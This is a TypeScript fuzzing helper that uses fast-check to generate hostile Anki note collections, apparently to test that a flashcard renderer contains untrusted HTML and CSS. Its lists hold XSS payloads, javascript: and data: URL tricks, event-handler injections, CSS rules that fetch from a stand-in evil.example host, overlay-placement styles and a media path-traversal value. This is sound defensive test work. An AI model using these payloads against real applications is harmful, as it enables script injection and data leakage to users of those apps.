import fc from 'fast-check';
import type { DatabaseContent, WrittenNoteType } from '@/tests/support/anki-database';
import { fieldHtml, sheetCss, templateHtml } from './texts';

/** Each of these would be seen: a mark on the page, or a request to a host that nobody has. */
const RUNS = ['__pwned=1', 'alert(1)', 'parent.__pwned=1', 'import("https://evil.example/m.js")'];
const ADDRESSES = [
  'https://evil.example/a',
  '//evil.example/b',
  'x',
  '/icon/16.png',
  'newtab.html',
  'javascript:__pwned=1',
  ' jAvA\tScRiPt:__pwned=1',
  'java&#10;script:__pwned=1',
  'data:text/html,<script>parent.__pwned=1</script>',
  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="__pwned=1"/>',
  'data:image/png;base64,iVBORw0KGgo=',
  'blob:https://evil.example/1',
  'filesystem:https://evil.example/t/a',
  'chrome://settings',
  'media:0000/a.png',
  'media:../../manifest.json',
  '#card',
];
const PLACING = [
  'position: fixed',
  'position: fixed !important',
  'position: sticky; top: 0',
  'position: absolute',
  'position: relative',
  'inset: 0',
  'inset: -4000px',
  'inset: auto auto -300px -300px',
  'top: 100vh',
  'z-index: 2147483647',
  'margin: -3000px',
  'margin-block-end: -600px',
  'margin-block-start: -600px',
  'padding: 3000px',
  'width: 9000px',
  'height: 9000px',
  'min-height: 100000px',
  'min-width: 300vw',
  'height: 100vh',
  'font-size: 3000px',
  'line-height: 500',
  'letter-spacing: 900px',
  'text-indent: -9999px',
  'transform: translate(-50%, 400px) scale(40)',
  'translate: 0 300px',
  'scale: 60',
  'rotate: 45deg',
  'zoom: 40',
  'float: right',
  'display: contents',
  'display: none',
  'contain: none',
  'overflow: visible',
  'clip-path: none',
  'mask: none',
  'column-count: 400',
  'writing-mode: vertical-rl',
  'direction: rtl',
  'opacity: 0',
  'visibility: visible !important',
  'visibility: hidden',
  'pointer-events: all',
  'pointer-events: none',
  'user-select: none',
  'cursor: none',
  'all: initial',
  'outline: 9999px solid red',
  'box-shadow: 0 0 0 9999px red',
  'border: 900px solid red',
  'filter: blur(90px)',
  'backdrop-filter: blur(9px)',
  'mix-blend-mode: difference',
  'isolation: auto',
  'anchor-name: --x; position-anchor: --x; position-area: bottom',
  'view-transition-name: x',
  'animation: k 1ms infinite alternate',
  'transition: all 9s',
  'will-change: transform',
  'content-visibility: hidden',
  'container-type: size',
  'counter-reset: a 9',
  '--side-height: 9000px; --card-padding: 900px',
  'color: red',
];
const LOADING = [
  'background: url(https://evil.example/c1)',
  'background-image: image-set("https://evil.example/c2" 1x)',
  'background: u\\72l(//evil.example/c3)',
  'list-style: url(https://evil.example/c4)',
  'content: url(https://evil.example/c5)',
  'cursor: url(https://evil.example/c6), auto',
  'border-image: url(https://evil.example/c7) 1',
  'mask-image: url(https://evil.example/c8)',
  'filter: url(https://evil.example/c9#f)',
  'shape-outside: url(https://evil.example/c10)',
  'offset-path: url(https://evil.example/c11#p)',
  '--u: url(https://evil.example/c12); background: var(--u)',
  'background: var(--none, url(https://evil.example/c13))',
  'background: cross-fade(url(https://evil.example/c14), red, 50%)',
  'background: attr(data-src type(<url>))',
  'background: src("https://evil.example/c15")',
  'src: url(https://evil.example/c16)',
  '-webkit-mask-box-image: url(https://evil.example/c17)',
  'background/**/:/**/url(https://evil.example/c18)',
  "background: if(style(--x): url('https://evil.example/c19'); else: url(https://evil.example/c20))",
];
const SELECTORS = (
  '*|.card|.card1|.card *|html|body|:root|:host|:host(*)|:host-context(html)|::slotted(*)|::part(x)|#app|#card|.a|.b::before|' +
  '.b::after|div|p|input|:is(.a, :host)|.card-actions|.card-show|.card-rate|.tab|.edge|.morsel-root|.morsel-body|:not(x)|' +
  '::backdrop|::view-transition|::selection|::first-letter|:has(*)|.night_mode .a|@media all|@layer x|@supports (color: red)|' +
  '@container (width > 0)|@scope (.card)|@starting-style|@media (prefers-color-scheme: dark)|@keyframes k|@font-face|@page|' +
  '@property --x|@position-try --x|@view-transition|@function --f()|.a .b > .c ~ .d|[data-id="x"]|[class]|:popover-open'
).split('|');
const TAGS = (
  'a abbr audio b base body button canvas center code custom-tag datalist dd del details dialog div dl embed ' +
  'fencedframe fieldset font form frame frameset h1 head hr html i iframe image img input ins isindex kbd label li ' +
  'link listing main map marquee math menu meta meter noembed noframes noscript object ol optgroup option output p ' +
  'param permission picture plaintext portal pre progress q rp rt ruby script search section select ' +
  'selectedcontent slot source span strike style summary sup svg table tbody td template textarea tfoot th title tr ' +
  'track ul video wbr xmp ' +
  // Of SVG and MathML, where a parser reads on by other rules.
  'animate foreignObject g image set use path desc maction mglyph mtext mi mo annotation-xml semantics mspace mtable'
).split(' ');
const MARKS =
  'id class name slot part is title lang dir role tabindex accesskey contenteditable draggable hidden inert ' +
  'autofocus popover popovertarget command commandfor interestfor nonce width height size data-id data-typed ' +
  'data-scaled data-width data-height data-phase data-kind data-buttons data-speak data-code aria-owns usemap ismap ' +
  'open controls autoplay loop';
const NAMES = ['card', 'app', 'edge', 'card-actions', 'card-show', 'typed', 'tts', 'morsel-body'];
const LINKS =
  'href src srcset data action formaction poster background cite longdesc ping manifest xlink:href lowsrc dynsrc ' +
  'archive codebase classid profile from to values data-src data-href imagesrcset attributionsrc http-equiv content';
const EVENTS =
  'onload onerror onclick onfocus onmouseover onanimationstart ontransitionend ontoggle onbeforetoggle onscroll ' +
  'onpointerrawupdate oncontentvisibilityautostatechange onbegin onloadstart onsecuritypolicyviolation';

const some = (pieces: readonly string[], most: number) =>
  fc.array(fc.constantFrom(...pieces), { maxLength: most });
const declarations = some([...PLACING, ...PLACING, ...LOADING], 6).map((found) => found.join('; '));
const valued = (names: string, values: readonly string[]) =>
  fc.tuple(fc.constantFrom(...names.split(' ')), fc.constantFrom(...values));
const attribute = fc.oneof(
  { weight: 3, arbitrary: valued(LINKS, ADDRESSES) },
  { weight: 2, arbitrary: valued(EVENTS, RUNS) },
  { weight: 2, arbitrary: valued(MARKS, NAMES) },
  { weight: 4, arbitrary: fc.tuple(fc.constantFrom('style', 'data-style'), declarations) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('color', 'bgcolor', 'face'), declarations) },
  { weight: 1, arbitrary: valued('width height size rowspan colspan', ['99999', '100%', '1e9']) },
);
const quoted = fc
  .tuple(attribute, fc.constantFrom('"', '"', '"', "'", '', '`'), fc.constantFrom(' ', '\n', '/'))
  .map(([[name, value], quote, before]) => `${before}${name}=${quote}${value}${quote}`);

/** Elements in each other, some of them never closed, with attributes of every kind. */
const { element } = fc.letrec<{ element: string; inside: string }>((tie) => ({
  inside: fc.oneof(
    { maxDepth: 3, depthSize: 'small' },
    fc.constantFrom('word', 'two words', '', '<!--', ']]>', '</p>', '&lt;script&gt;', '[sound:x]'),
    tie('element'),
  ),
  element: fc
    .record({
      tag: fc.constantFrom(...TAGS),
      attributes: fc.array(quoted, { maxLength: 4 }),
      inside: fc.array(tie('inside'), { maxLength: 3 }),
      closing: fc.nat(5),
    })
    .map(({ tag, attributes, inside, closing }) => {
      const head = `<${tag}${attributes.join('')}${closing === 1 ? '/>' : '>'}`;
      return head + inside.join('') + (closing > 1 ? `</${tag}>` : '');
    }),
}));

const field = fc.oneof(
  { weight: 3, arbitrary: fc.array(element, { minLength: 1, maxLength: 3 }) },
  { weight: 1, arbitrary: fieldHtml.map((html) => [html]) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('{{c1::', '{{c2::a::'), element, fieldHtml) },
);
const fieldText = field.map((parts) => parts.join('').replaceAll('\x1f', ''));
const side = fc
  .tuple(
    fc.constantFrom('{{Front}}', '{{cloze:Front}}', '{{type:Front}}', ''),
    templateHtml,
    element,
  )
  .map((parts) => parts.join(' '));
const sheet = fc
  .tuple(
    fc.array(
      fc
        .tuple(fc.constantFrom(...SELECTORS), declarations)
        .map(([selector, rules]) =>
          selector.startsWith('@')
            ? `${selector} { .a { ${rules} } ${rules} }`
            : `${selector} { ${rules} }`,
        ),
      { maxLength: 8 },
    ),
    fc.option(sheetCss, { nil: '' }),
  )
  .map(([rules, rest]) => [...rules, rest].join('\n'));

const noteType = fc.record({
  isCloze: fc.boolean(),
  css: fc.oneof({ weight: 1, arbitrary: fc.constant('') }, { weight: 4, arbitrary: sheet }),
  front: side,
  back: side,
  notes: fc.array(fc.tuple(fieldText, fieldText), { minLength: 10, maxLength: 10 }),
});

export interface HostileNotes {
  readonly seed: number;
  /** A multiple of ten. */
  readonly count: number;
}

/** A collection of so many notes, each of which tries something; ten share a note type of its own. */
export function hostileCollection({ seed, count }: HostileNotes): DatabaseContent {
  const kinds = fc.sample(noteType, { seed, numRuns: count / 10 });
  const noteTypes = kinds.map(({ isCloze, css, front, back }, at): WrittenNoteType => {
    const templates = [{ name: 'Card 1', front, back }];
    const fields = ['Front', 'Back'];
    return { id: 1_600_000_000_000 + at, name: `Kind ${at}`, isCloze, css, fields, templates };
  });
  const notes = kinds.flatMap(({ notes: fields }, kind) =>
    fields.map((texts, at) => ({
      id: kind * 10 + at + 1,
      guid: `hostile-${kind}-${at}`,
      mid: 1_600_000_000_000 + kind,
      tags: '',
      flds: texts.join('\x1f'),
    })),
  );
  return { noteTypes, notes, cards: notes.map(({ id }) => ({ id, nid: id, did: 1, ord: 0 })) };
}
